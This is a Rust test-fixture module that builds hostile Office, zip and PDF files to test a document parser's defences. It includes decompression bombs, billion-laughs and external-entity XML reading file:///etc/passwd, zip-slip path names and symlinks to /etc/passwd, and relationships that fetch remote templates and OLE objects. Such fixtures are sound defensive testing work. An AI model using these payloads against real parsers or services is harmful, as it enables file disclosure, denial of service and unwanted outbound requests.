//! Hostile files, each with its name and what is hostile in it.

use fixtures::{FORM_XLSX, SAMPLE_DOC, SAMPLE_DOCX, SAMPLE_PDF};
use std::io::{Cursor, Read, Write};
use zip::write::SimpleFileOptions;
use zip::{ZipArchive, ZipWriter};

const PROLOG: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>";
const WORD: &str = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
const SHEET: &str = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
/// More than a reader may expand.
const BLANKS: usize = 96 << 20;
const ENTRIES: usize = 5_000;
const DEPTH: usize = 100_000;

/// A file and its name.
pub(crate) type Hostile = (String, Vec<u8>);

fn named(name: &str, bytes: Vec<u8>) -> Hostile {
    (name.to_owned(), bytes)
}

/// A real file with parts put in place of its own, or added.
pub(crate) fn with_parts(file: &[u8], parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut old = ZipArchive::new(Cursor::new(file)).unwrap();
    let mut new = ZipWriter::new(Cursor::new(Vec::new()));
    for index in 0..old.len() {
        let mut part = old.by_index(index).unwrap();
        let own = part.name().unwrap().into_owned();
        if parts.iter().all(|(name, _)| *name != own) {
            let mut content = Vec::new();
            part.read_to_end(&mut content).unwrap();
            new.start_file(own, SimpleFileOptions::default()).unwrap();
            new.write_all(&content).unwrap();
        }
    }
    for (name, content) in parts {
        new.start_file(*name, SimpleFileOptions::default()).unwrap();
        new.write_all(content).unwrap();
    }
    new.finish().unwrap().into_inner()
}

fn word(prolog: &str, inner: &str) -> Vec<u8> {
    format!(
        "{PROLOG}{prolog}<w:document xmlns:w=\"{WORD}\"><w:body><w:p><w:r><w:t>{inner}</w:t></w:r>\
         </w:p></w:body></w:document>"
    )
    .into_bytes()
}

fn workbook(prolog: &str, inner: &str) -> Vec<u8> {
    format!(
        "{PROLOG}{prolog}<worksheet xmlns=\"{SHEET}\"><sheetData><row r=\"1\"><c r=\"A1\" \
         t=\"inlineStr\"><is><t>{inner}</t></is></c></row></sheetData></worksheet>"
    )
    .into_bytes()
}

/// Word and workbook with a body of one's own.
fn both(what: &str, prolog: &str, inner: &str) -> [Hostile; 2] {
    let docx = with_parts(SAMPLE_DOCX, &[("word/document.xml", &word(prolog, inner))]);
    let sheets = ["xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"];
    let sheet = workbook(prolog, inner);
    let xlsx = with_parts(FORM_XLSX, &sheets.map(|name| (name, sheet.as_slice())));
    [named(&format!("{what}.docx"), docx), named(&format!("{what}.xlsx"), xlsx)]
}

/// Files that expand beyond all measure (C2).
pub(crate) fn bombs() -> Vec<Hostile> {
    let blanks = vec![b' '; BLANKS];
    let ratio = with_parts(SAMPLE_DOCX, &[("word/document.xml", &blanks)]);
    let sheet = with_parts(FORM_XLSX, &[("xl/worksheets/sheet1.xml", &blanks)]);
    let names: Vec<String> = (0..ENTRIES).map(|number| format!("word/{number}.xml")).collect();
    let many: Vec<(&str, &[u8])> =
        names.iter().map(|name| (name.as_str(), b"<a/>".as_slice())).collect();
    let nested = with_parts(
        &with_parts(EMPTY_ZIP, &[("a.zip", &ratio)]),
        &[("b.zip", &with_parts(EMPTY_ZIP, &[("c.docx", &ratio)]))],
    );
    let mut lying = ratio.clone();
    claim_size(&mut lying, u32::try_from(BLANKS).unwrap(), 64);
    let tables = format!("{}{}", "<w:tbl><w:tr><w:tc>".repeat(DEPTH), "</w:tc></w:tr></w:tbl>");
    let deep = format!("{PROLOG}<w:document xmlns:w=\"{WORD}\"><w:body>{tables}");
    vec![
        named("空白.docx", ratio),
        named("空白.xlsx", sheet),
        named("多件.docx", with_parts(SAMPLE_DOCX, &many)),
        named("套装.docx", nested),
        named("谎称.docx", lying),
        named("深层.docx", with_parts(SAMPLE_DOCX, &[("word/document.xml", deep.as_bytes())])),
    ]
}

/// An archive of nothing.
const EMPTY_ZIP: &[u8] = b"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0";

/// Writes another expanded size wherever one is stated.
fn claim_size(zip: &mut [u8], stated: u32, claimed: u32) {
    let at: Vec<usize> = zip
        .windows(4)
        .enumerate()
        .filter(|(_, bytes)| *bytes == stated.to_le_bytes())
        .map(|(at, _)| at)
        .collect();
    assert!(!at.is_empty());
    for place in at {
        zip[place..place + 4].copy_from_slice(&claimed.to_le_bytes());
    }
}

/// Entities and what lies outside (C3).
pub(crate) fn entities(address: &str) -> Vec<Hostile> {
    let laugh = |number: usize| {
        format!("<!ENTITY a{number} \"{}\">", format!("&a{};", number - 1).repeat(10))
    };
    let laughs: Vec<String> = (1..10).map(laugh).collect();
    let laughs = format!("<!ENTITY a0 \"哈哈哈哈\">{}", laughs.concat());
    let outside = |what: &str| format!("<!DOCTYPE w [<!ENTITY x SYSTEM \"{what}\">]>");
    let web = format!("http://{address}/outside");
    let parameter = format!("<!DOCTYPE w [<!ENTITY % p SYSTEM \"{web}\"> %p;]>");
    [
        both("实体爆炸", &format!("<!DOCTYPE w [{laughs}]>"), "&a9;"),
        both("本机文件", &outside("file:///etc/passwd"), "&x;"),
        both("网上文件", &outside(&web), "&x;"),
        both("外部定义", &format!("<!DOCTYPE w SYSTEM \"{web}\">"), "字"),
        both("参数实体", &parameter, "字"),
    ]
    .into_iter()
    .flatten()
    .collect()
}

/// What is not what its name says, and what is nothing at all.
pub(crate) fn strangers() -> Vec<Hostile> {
    let locked = [&[0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1][..], &[0; 4_096]].concat();
    vec![
        named("图片.docx", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01".to_vec()),
        named("程序.xlsx", [b"\x7fELF\x02\x01\x01\0", &[0; 512][..]].concat()),
        named("程序.doc", [b"MZ\x90\0", &[0; 512][..]].concat()),
        named("压缩包.docx", b"Rar!\x1a\x07\x01\0rest".to_vec()),
        named("压缩包.pdf", b"7z\xbc\xaf\x27\x1c\0\x04rest".to_vec()),
        named("数据.pdf", b"\x1f\x8b\x08\0\0\0\0\0rest".to_vec()),
        named("加密.docx", locked),
        named("空.docx", Vec::new()),
        named("空压缩包.xlsx", EMPTY_ZIP.to_vec()),
        named("只有头.pdf", b"%PDF-1.7\n".to_vec()),
        named("字节.txt", vec![0; 4_096]),
    ]
}

/// Real files that end too early.
pub(crate) fn cut() -> Vec<Hostile> {
    let files =
        [("docx", SAMPLE_DOCX), ("xlsx", FORM_XLSX), ("doc", SAMPLE_DOC), ("pdf", SAMPLE_PDF)];
    let shares = [1, 5, 9];
    files
        .into_iter()
        .flat_map(|(end, bytes)| {
            shares.map(|tenths| {
                let kept = bytes[..bytes.len() * tenths / 10].to_vec();
                (format!("截断{tenths}.{end}"), kept)
            })
        })
        .collect()
}

/// A good Word file with entries whose names lead elsewhere (C4).
pub(crate) fn leading_elsewhere() -> Vec<u8> {
    let long = format!("word/{}.xml", "长".repeat(83));
    let names = [
        "../../../escaped.txt",
        "/escaped.txt",
        "..\\..\\escaped.txt",
        "C:\\escaped.txt",
        "\\\\server\\escaped.txt",
        "CON",
        "word/NUL.xml",
        "COM1:",
        "word/escaped.txt:stream",
        long.as_str(),
        "word/./escaped.txt",
        "word//escaped.txt",
    ];
    let mut archive = ZipWriter::new_append(Cursor::new(SAMPLE_DOCX.to_vec())).unwrap();
    for name in names {
        archive.start_file(name, SimpleFileOptions::default()).unwrap();
        archive.write_all(b"escaped").unwrap();
    }
    archive.add_symlink("word/link.xml", "/etc/passwd", SimpleFileOptions::default()).unwrap();
    archive.add_symlink("link", "../../..", SimpleFileOptions::default()).unwrap();
    archive.finish().unwrap().into_inner()
}

/// A good Word file that is told to fetch its parts from an address (D11).
pub(crate) fn fetching(address: &str) -> Vec<u8> {
    let kinds = ["attachedTemplate", "image", "oleObject", "subDocument", "frame", "hyperlink"];
    let relation = |(number, kind): (usize, &&str)| {
        format!(
            "<Relationship Id=\"rOut{number}\" Type=\"http://schemas.openxmlformats.org/\
             officeDocument/2006/relationships/{kind}\" Target=\"http://{address}/{kind}\" \
             TargetMode=\"External\"/>"
        )
    };
    let relations: Vec<String> = kinds.iter().enumerate().map(relation).collect();
    let relations = relations.concat();
    let relations = format!(
        "{PROLOG}<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/\
         relationships\">{relations}</Relationships>"
    );
    let parts = ["word/_rels/document.xml.rels", "word/_rels/settings.xml.rels"];
    with_parts(SAMPLE_DOCX, &parts.map(|name| (name, relations.as_bytes())))
}
